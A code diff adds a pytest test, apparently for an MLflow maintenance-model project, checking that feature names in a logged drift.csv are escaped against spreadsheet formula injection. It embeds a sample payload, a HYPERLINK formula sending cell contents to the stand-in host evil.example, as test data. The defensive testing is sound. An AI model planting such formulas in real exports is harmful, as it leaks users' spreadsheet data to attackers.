@@ -112,3 +112,31 @@ def test_training_frames_are_gone_and_their_memory_released_while_the_classifier
     run = client.get_run(trained["run_id"])
     assert run.info.status == "FINISHED" and len(run.inputs.dataset_inputs) == 1
     assert run.data.params["train_rows"] == str(small_batch["splits"]["train"]["rows"])
+
+
+def test_a_drift_table_with_formula_feature_names_is_logged_escaped(client, tmp_path):
+    """validate_data's report names features as the source file's header does: an attacker's header
+    reaches drift.csv, which people open in a spreadsheet."""
+    import csv
+
+    from cmms_mlflow.training_run import log_checks
+    from cmms_pm.drift import DriftReport, FeatureDrift
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
+    report = DriftReport(
+        threshold=0.25,
+        action="warn",
+        features=(
+            FeatureDrift(evil, "numeric", 0.9, "drifted"),
+            FeatureDrift("@SUM(A1)", "category", 0.0, "stable"),
+        ),
+    )
+    experiment = client.get_experiment_by_name("csv-injection") or client.get_experiment(
+        client.create_experiment("csv-injection")
+    )
+    run = client.create_run(experiment.experiment_id)
+    log_checks(client, run.info.run_id, {"drift": report.to_dict(), "contract_check": {}}, title="t")
+    path = client.download_artifacts(run.info.run_id, "data_checks/drift.csv", str(tmp_path))
+    with open(path, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["feature"] for row in rows] == ["'" + evil, "'@SUM(A1)"]
